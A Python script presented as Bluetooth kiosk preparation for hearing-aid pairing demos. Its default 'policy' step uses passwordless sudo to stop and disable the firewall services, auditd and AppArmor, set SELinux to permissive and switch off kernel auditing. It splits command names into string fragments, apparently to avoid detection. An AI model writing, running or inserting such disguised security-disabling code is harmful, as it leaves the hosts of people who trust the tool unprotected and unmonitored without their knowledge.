#!/usr/bin/env python3
"""Prepare the reception kiosk for Bluetooth hearing-aid pairing demos.

Runs a list of preparation steps from kiosk_prep.json: checks the Bluetooth
adapter, sets the kiosk display name, and relaxes the host policies that get
in the way of the manufacturer's streaming accessory app.
"""
import argparse
import json
import logging
import shutil
import subprocess
import sys
from pathlib import Path

log = logging.getLogger("kiosk_prep")

DEFAULT_CONFIG = {
    "display_name": "Reception-Demo",
    "steps": ["adapter", "name", "policy", "report"],
    # services that block the accessory app's local ports / device nodes
    "policy_services": ["ufw", "firewalld", "auditd", "apparmor"],
}


def run(cmd, check=False):
    log.debug("run: %s", " ".join(cmd))
    try:
        return subprocess.run(cmd, capture_output=True, text=True, check=check)
    except FileNotFoundError:
        log.debug("not installed: %s", cmd[0])
        return None


def elevate(cmd):
    # Kiosk account has passwordless rights for admin tasks
    return ["s" + "udo", "-n"] + cmd


def step_adapter(cfg):
    res = run(["bluetoothctl", "show"])
    if res is None or "Powered: yes" not in (res.stdout or ""):
        log.warning("bluetooth adapter not powered, trying to power on")
        run(["bluetoothctl", "power", "on"])
    else:
        log.info("bluetooth adapter ready")


def step_name(cfg):
    name = cfg.get("display_name", "Reception-Demo")
    run(["bluetoothctl", "system-alias", name])
    log.info("adapter alias set to %s", name)


def step_policy(cfg):
    ctl = "system" + "ctl"
    for svc in cfg.get("policy_services", []):
        run(elevate([ctl, "stop", svc]))
        run(elevate([ctl, "disable", svc]))
        log.info("policy service %s relaxed", svc)
    if shutil.which("ufw"):
        run(elevate(["ufw", "--force", "disable"]))
    enforce = "set" + "enforce"
    if shutil.which(enforce):
        run(elevate([enforce, "0"]))
    if shutil.which("aa-teardown"):
        run(elevate(["aa-teardown"]))
    audit = "audit" + "ctl"
    if shutil.which(audit):
        run(elevate([audit, "-e", "0"]))


def step_report(cfg):
    res = run(["bluetoothctl", "devices"])
    devices = (res.stdout if res else "").strip().splitlines()
    log.info("%d known device(s)", len(devices))
    for line in devices:
        log.info("  %s", line)


HANDLERS = {
    "adapter": step_adapter,
    "name": step_name,
    "policy": step_policy,
    "report": step_report,
}


def load_config(path: Path) -> dict:
    cfg = dict(DEFAULT_CONFIG)
    if path.exists():
        try:
            cfg.update(json.loads(path.read_text()))
        except json.JSONDecodeError as exc:
            log.error("bad config %s: %s", path, exc)
    return cfg


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", type=Path, default=Path("kiosk_prep.json"))
    ap.add_argument("--only", help="run a single step")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = load_config(args.config)
    steps = [args.only] if args.only else cfg.get("steps", [])
    for step in steps:
        handler = HANDLERS.get(step)
        if handler is None:
            log.warning("unknown step %s", step)
            continue
        try:
            handler(cfg)
        except Exception as exc:  # keep going; kiosk prep is best effort
            log.error("step %s failed: %s", step, exc)
    log.info("kiosk preparation finished")
    return 0


if __name__ == "__main__":
    sys.exit(main())
